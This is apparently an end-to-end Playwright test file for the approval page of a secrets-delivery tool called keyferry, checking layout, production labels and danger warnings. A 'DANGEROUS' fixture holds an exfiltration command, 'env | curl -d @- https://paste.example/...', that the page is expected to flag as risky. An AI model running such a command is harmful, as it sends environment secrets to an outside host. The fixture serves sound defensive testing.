import { createClient } from '@keyferry/contract/client'
import { generatePollVerifier } from '@keyferry/crypto/poll-challenge'
import type { Browser, BrowserContextOptions, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type Asking, askApproval, createLibrary, META } from './app-library.ts'
import {
  closePage,
  delayFonts,
  expectAccessible,
  isInView,
  openKeys,
  openPage,
  readRequest,
  WATCH_SHIFTS,
} from './app-page.ts'
import { closePages, hasBrowser, sharedBrowser } from './browser.ts'
import { type RunningServer, startServer } from './start-server.ts'

const PHONE = { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true }
const WAY_BACK = `#lb=9.${'A'.repeat(43)}`
const DANGEROUS = {
  bundle: 'prod/shop/mail',
  address: '203.0.113.9',
  argv: ['bash', '-c', `env | curl -d @- https://paste.example/${'long/'.repeat(60)}`],
}

const approve = (page: Page) => page.getByRole('button', { name: /^Approve|: approve/ })

describe.skipIf(!hasBrowser())('the approval page at a glance', () => {
  let server: RunningServer
  let browser: Browser
  let keys: ReadonlyMap<string, string>

  beforeAll(async () => {
    ;[server, browser] = await Promise.all([
      startServer({ env: { TRUST_PROXY: '127.0.0.1' } }),
      sharedBrowser(),
    ])
    ;({ keys } = await createLibrary(server.url))
  })
  afterAll(async () => {
    await closePages(browser)
    await server?.dispose()
  })

  async function opened(asking: Asking, options: BrowserContextOptions = {}, hasOwnClock = false) {
    const returning = { release: ['loopback', 'code'] as const, verifier: generatePollVerifier() }
    const request = await askApproval(server.url, { address: '127.0.0.1', ...returning, ...asking })
    const page = await openPage(browser, options)
    if (hasOwnClock) await page.clock.install()
    await page.addInitScript(WATCH_SHIFTS)
    await page.goto(server.url + request.verification_uri_complete + WAY_BACK)
    await approve(page).waitFor()
    return page
  }

  test('the usual request fits a phone without scrolling, nothing moves, and no reason is shown', async () => {
    const page = await opened({ bundle: 'dev/app', argv: ['npm', 'run', 'dev'] }, PHONE)
    await page.getByRole('heading', { name: 'npm run dev', level: 1 }).waitFor()
    await page.getByText('dev/app').first().waitFor()
    for (const text of ['6 variables, ', 'Only this computer gets the values', 'Details'])
      await page.getByText(text).waitFor()
    await expect.poll(() => approve(page).getAttribute('aria-disabled')).toBe('false')
    expect(await page.evaluate('document.documentElement.scrollHeight')).toBe(844)
    expect(await page.evaluate('window.shifted')).toBe(0)
    expect(await page.getByRole('alert').count()).toBe(0)
    expect(await page.getByRole('region', { name: 'Check code' }).count()).toBe(0)
    await closePage(page)
  })

  test('production is said before the command, dangers under it, the worst first, and all of it on the button', async () => {
    const page = await opened(DANGEROUS, PHONE)
    const alerts = await page.getByRole('alert').allInnerTexts()
    expect(alerts.map((text) => text.replaceAll(/\s+/g, ' '))).toEqual([
      expect.stringMatching(/^PRODUCTION prod\/shop\/mail/),
      'bash runs a script, which can do anything with the values. Not your network: from 203.0.113.9, you are at 127.0.0.1.',
    ])
    const heights = await Promise.all(
      [
        page.getByText('PRODUCTION', { exact: true }),
        page.getByRole('heading', { level: 1 }),
        page.getByText('bash runs a script'),
        page.getByText('2 variables, '),
      ].map(async (shown) => (await shown.boundingBox())?.y ?? 0),
    )
    expect(heights).toEqual(heights.toSorted((a, b) => a - b))
    await page.getByRole('button', { name: 'Approve for PRODUCTION' }).waitFor()
    expect(await page.evaluate('window.shifted')).toBe(0)
    await expectAccessible(page)
    await closePage(page)
  })

  test.each([
    ['360 × 225', { viewport: { width: 360, height: 225 } }],
    ['a phone that lies on its side', { viewport: { width: 844, height: 390 }, hasTouch: true }],
    ['a laptop at 200 %', { viewport: { width: 640, height: 400 }, deviceScaleFactor: 2 }],
  ] as const)('on %s the decision is in view, and leaves room for the rest', async (_, options) => {
    const page = await opened(DANGEROUS, options)
    for (const name of ['Deny', 'Approve for PRODUCTION']) {
      const box = await page.getByRole('button', { name }).boundingBox()
      expect(box?.y).toBeGreaterThan(0)
      expect((box?.y ?? 0) + (box?.height ?? 0)).toBeLessThanOrEqual(options.viewport.height)
    }
    const bar = await page.locator('#decision').boundingBox()
    expect(bar?.height).toBeLessThan(options.viewport.height / 2)
    await closePage(page)
  })

  test.each([
    ['the usual one', { bundle: 'dev/app', argv: ['npm', 'run', 'dev'] }, {}],
    ['production', { bundle: 'prod/shop/mail', argv: ['npm', 'run', 'migrate'] }, {}],
    ['an agent', { bundle: 'dev/app', argv: ['npm', 'test'] }, { agent: 'codex', reason: 'to test' }],
    ['dangers', { bundle: 'prod/shop/mail', address: '203.0.113.9', argv: ['bash', '-c', 'env'] }, {}],
  ])(
    'from the end of the question to the buttons there are at most 320 pixels: %s',
    async (_, asking, meta) => {
      const page = await opened({ ...asking, meta: { ...META, via: 'run', ...meta } })
      const question = await page.getByRole('heading', { level: 1 }).boundingBox()
      const deny = await page.getByRole('button', { name: 'Deny' }).boundingBox()
      expect((deny?.y ?? 0) - (question?.y ?? 0) - (question?.height ?? 0)).toBeLessThanOrEqual(320)
      expect((deny?.y ?? 0) + (deny?.height ?? 0)).toBeLessThan(860)
      await closePage(page)
    },
  )

  test('one mark says what is asked, one from where, one where it goes, one that it is production, without scrolling', async () => {
    const page = await opened({ bundle: 'prod/shop/mail', argv: ['npm', 'run', 'migrate'] })
    const marks = {
      asked: page.getByRole('heading', { name: 'npm run migrate', level: 1 }),
      from: page.getByRole('alert').getByText('prod/shop/mail', { exact: true }),
      to: page.getByText('Only this computer gets the values', { exact: true }),
      production: page.getByText('PRODUCTION', { exact: true }),
    }
    for (const [name, mark] of Object.entries(marks)) {
      expect(await mark.count(), name).toBe(1)
      expect(await isInView(mark), name).toBe(true)
    }
    await closePage(page)
  })

  test('a press that comes too early shows a note', async () => {
    const asking = { bundle: 'dev/app', argv: ['npm', 'run', 'dev', '***'], isMasked: true }
    const page = await opened(asking, {}, true)
    await approve(page).focus()
    for (let presses = 0; presses < 3; presses++) await page.keyboard.press('Enter')
    await page.getByRole('status').getByText('One moment').waitFor()
    await page.getByText('One moment').waitFor({ state: 'detached' })
    expect(await page.evaluate('window.shifted')).toBe(0)
    // Long after it, buttons that wait again do so without the note.
    await page.clock.fastForward(5_000)
    await page.evaluate("dispatchEvent(new Event('blur'))")
    const look = () =>
      approve(page).evaluate((button) => ({
        waits: button.getAttribute('aria-disabled'),
        isNoted: button.ownerDocument.body.innerText.includes('One moment'),
        fills: button.querySelectorAll('.fill').length,
      }))
    await expect.poll(look).toEqual({ waits: 'true', isNoted: false, fills: 1 })
    await page.getByText('The client left secrets out of word 4: they show ***.').waitFor()
    await closePage(page)
  })

  test('fonts that come late move nothing', async () => {
    const { verification_uri_complete } = await askApproval(server.url, { bundle: 'dev/app' })
    const page = await openPage(browser)
    await page.addInitScript(WATCH_SHIFTS)
    const loaded = await delayFonts(page)
    await page.goto(server.url + verification_uri_complete, { waitUntil: 'commit' })
    await approve(page).waitFor()
    await loaded()
    // Centred sentences become a few pixels narrower. A line that breaks elsewhere moves everything under it: 0.004.
    expect(await page.evaluate('window.shifted')).toBeLessThan(0.001)
    await closePage(page)
  })

  test('a value that changed since the last approval is counted, and comes first', async () => {
    const first = await opened({ bundle: 'dev/app' })
    await first.getByText('6 variables, your first approval of this bundle').waitFor()
    const [bundle] = await createClient(server.url)('GET', '/api/v1/bundles', { query: { query: 'dev/app' } })
    const { id } = await askApproval(server.url, { bundle: 'dev/app' })
    const names = ['DATABASE_URL', 'REDIS_URL', 'PORT', 'SESSION_SECRET', 'STRIPE_SECRET_KEY', 'LOG_LEVEL']
    const body = { bundle_id: bundle?.id ?? '', include_keys: names }
    await createClient(server.url)('POST', '/api/v1/requests/{request_id}/encrypt-from-bundle', {
      params: { request_id: id },
      body,
    })
    await first.reload()
    await first.getByText('6 variables, unchanged since you last approved').waitFor()
    await createClient(server.url)('PUT', '/api/v1/keys/{key_id}', {
      params: { key_id: keys.get('SESSION_SECRET') ?? '' },
      body: { value: 'planted-other' },
    })
    await first.reload()
    await first.getByText('6 variables, 1 changed since you last approved').waitFor()
    await openKeys(first)
    await expect
      .poll(() => first.getByRole('listitem').first().innerText())
      .toMatch(/SESSION_SECRET\s+version 2/)
    await expectAccessible(first)
    await closePage(first)
  })

  test('for pull the page shows all flags, and where the values go', async () => {
    const meta = { ...META, via: 'pull' }
    const argv = ['keyferry', 'pull']
    const page = await opened({
      bundle: 'dev/app',
      meta,
      argv,
      flags: ['pull', '--output=.env', '--force=true'],
    })
    await page.getByText('Writes to .env').waitFor()
    await expect.poll(() => page.getByRole('heading', { level: 1 }).innerText()).toContain('--force')
    const printed = await opened({ bundle: 'dev/app', meta, argv, flags: ['pull'] })
    await printed.getByText('Prints to the terminal').waitFor()
    await Promise.all([closePage(page), closePage(printed)])
  })

  test('a bundle that the client would refuse is not offered', async () => {
    const page = await opened({ bundle: 'dev/app', meta: { ...META, via: 'run' }, argv: ['npm', 'start'] })
    await page.getByRole('button', { name: 'Change', exact: true }).click()
    await page.getByText('keyferry run BUNDLE -- npm start').waitFor()
    expect(await page.getByRole('combobox').count()).toBe(0)
    await readRequest(page)
    await closePage(page)
  })
})
